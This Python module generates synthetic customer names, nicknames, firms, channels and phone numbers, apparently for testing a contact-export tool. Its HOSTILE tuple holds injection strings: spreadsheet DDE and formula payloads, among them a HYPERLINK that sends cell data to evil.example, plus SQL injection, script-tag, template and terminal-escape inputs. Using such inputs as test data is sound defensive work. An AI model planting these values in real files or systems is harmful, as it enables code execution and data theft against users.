"""Names of people, firms and channels; some of them are an attack on whoever prints them."""

from random import Random
from typing import Final

_SURNAMES = """
王:wang 李:li 张:zhang 刘:liu 陈:chen 杨:yang 赵:zhao 黄:huang 周:zhou 吴:wu 徐:xu 孙:sun 胡:hu 朱:zhu
高:gao 林:lin 何:he 郭:guo 马:ma 罗:luo 梁:liang 宋:song 郑:zheng 谢:xie 韩:han 唐:tang 冯:feng 于:yu
董:dong 萧:xiao 程:cheng 曹:cao 袁:yuan 邓:deng 许:xu 傅:fu 沈:shen 曾:zeng 彭:peng 吕:lv 欧阳:ouyang
"""
_GIVEN = """
伟:wei 芳:fang 娜:na 敏:min 静:jing 丽:li 强:qiang 磊:lei 军:jun 洋:yang 勇:yong 艳:yan 杰:jie 娟:juan
涛:tao 明:ming 超:chao 霞:xia 平:ping 刚:gang 桂英:guiying 建华:jianhua 秀兰:xiulan 子涵:zihan 浩然:haoran
欣怡:xinyi 梓萱:zixuan 宇轩:yuxuan 雨桐:yutong 思远:siyuan 嘉怡:jiayi 晨曦:chenxi 志强:zhiqiang
晓东:xiaodong 海燕:haiyan 文博:wenbo 雪梅:xuemei 俊杰:junjie 佳琪:jiaqi 一诺:yinuo
"""
_ENGLISH = """
Amy Ben Carol David Emma Frank Grace Henry Ivy Jack Kelly Leo Mia Nick Olivia Peter Queenie Ryan Sophie Tom
Una Vincent Wendy Xavier Yvonne Zoe Annie Bob Cindy Eric
"""
_FAMILY = "Smith Jones Brown Taylor Wilson Evans Walker Wright Green Hall O'Neil García Müller Dubois Kowalski"
SURNAMES: Final = tuple((name, sound) for name, sound in (pair.split(":") for pair in _SURNAMES.split()))
GIVEN: Final = tuple((name, sound) for name, sound in (pair.split(":") for pair in _GIVEN.split()))
ENGLISH: Final = tuple(_ENGLISH.split())
FAMILY: Final = tuple(_FAMILY.split())
NICKNAMES: Final = (
    "向日葵", "一叶知秋", "小确幸", "阳光总在风雨后", "云淡风轻", "Lucky", "A 老王装修 13800000000", "奶茶不加糖",
    "静待花开", "爱吃鱼的猫", "Mr.Right", "木子李", "🌸樱花树下🌸", "星辰大海", "努力的小蜗牛", "AA建材批发小刘",
    "Cherry🍒", "随遇而安", "北方的狼", "平安是福",
)  # fmt: skip
HOSTILE: Final = (
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\x1b[31m红字\x1b[0m",
    "\x1b]0;title\x07\x1b[2J",
    "[bold red]markup[/bold red]",
    "[/]",
    "[link=http://evil.example]链接[/link]",
    "👨‍👩‍👧‍👦🏳️‍🌈",
    "\u202etxt.exe",
    "第一行\n第二行",
    "列一\t列二",
    "回车\r\n换行",
    "龍龘靐齉爩鱻麤灪籱龖厵爨癵驫麷鸜龍龘靐齉爩鱻麤灪籱龖厵爨癵",
    "\"引号\", '逗号', 分号;",
    "O'Brien; DROP TABLE contact;--",
    "<script>alert(1)</script>",
    "{{7*7}}",
    "%s %d {0} {name}",
    "",
    " ",
    "\u200b\u200b",
    "00123",
    "1E10",
    "13800138000",
    "null",
    "NaN",
    "𠮷野家",
    "e\u0301clair",
    "\ufeffBOM",
)
FIRMS: Final = (
    ("晨光", "上海晨光文化用品有限公司"),
    ("蓝海物流", "深圳市蓝海物流有限公司"),
    ("明德教育", "北京明德教育科技有限公司"),
    ("华星电子", "华星电子（苏州）有限公司"),
    ("Acme", "Acme Trading (Shanghai) Co., Ltd."),
    ("绿源农业", "云南绿源农业发展有限公司"),
    ("云帆软件", "杭州云帆软件有限公司"),
    ("鼎盛地产", "广州鼎盛房地产经纪有限公司"),
)
CHANNELS: Final = (
    "抖音-直播间", "小红书-种草", "官网-咨询", "门店-人民广场", "门店-徐家汇", "展会2026春", "老客转介绍", "公众号菜单",
    "短信活动0618", "sem-baidu", "sem-360", "spring-fair", "ad-7", "ad-8", "双11预热", "地推-高校", "邮件EDM-03",
    "视频号橱窗", "QR_poster_A", "QR_poster_B",
)  # fmt: skip
NOTES: Final = (
    "", "", "", "", "喜欢下午联系", "预算 5 万左右", "已报价，等回复", "家里有两个孩子", "老客户介绍",
    "asked for a quote", "不要打电话", "12 月再跟进", "对价格敏感；比较过三家", "VIP, handle with care",
)  # fmt: skip
# how a customer came in, most frequent first: (add_way, weight)
ADD_WAYS: Final = (
    (1, 42), (2, 9), (3, 12), (4, 7), (5, 2), (6, 4), (10, 3), (13, 2), (16, 8), (24, 2), (201, 3), (202, 4), (0, 2),
)  # fmt: skip


def chinese(rng: Random) -> tuple[str, str]:
    """A Chinese name and its pinyin, as in ("王伟", "wang.wei")."""
    family, given = rng.choice(SURNAMES), rng.choice(GIVEN)
    return family[0] + given[0], f"{family[1]}.{given[1]}"


def english(rng: Random) -> tuple[str, str]:
    """An English first name with a Chinese family name, as in ("Amy Chen", "amy.chen")."""
    first, family = rng.choice(ENGLISH), rng.choice(SURNAMES)[1]
    return f"{first} {family.title()}", f"{first.lower()}.{family}"


def customer(rng: Random) -> str:
    """What a customer calls themselves: a name, a nickname, or (1 in 50) something hostile."""
    draw = rng.random()
    if draw < 0.02:
        return rng.choice(HOSTILE)
    if draw < 0.25:
        return rng.choice(NICKNAMES)
    if draw < 0.35:
        return f"{rng.choice(ENGLISH)} {rng.choice(FAMILY)}"
    return chinese(rng)[0]


def mobile(rng: Random) -> str:
    """A mobile number of the right shape; from a small range, so that some occur twice."""
    return f"1{rng.choice('3578')}{rng.randrange(10)}{rng.randrange(10_000_000):08d}"
